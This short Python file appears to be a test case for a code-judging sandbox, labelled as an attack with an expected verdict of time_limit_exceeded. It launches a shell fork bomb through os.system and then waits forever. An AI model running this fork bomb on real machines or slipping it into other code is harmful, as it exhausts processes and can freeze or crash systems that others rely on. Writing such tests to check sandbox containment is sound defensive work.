# Attack: the fork bomb of shells, started and left to itself; the program waits for ever beside it.
# Verdict: time_limit_exceeded
import os, signal

os.system('b() { b | b & }; b')
while True:
    signal.pause()
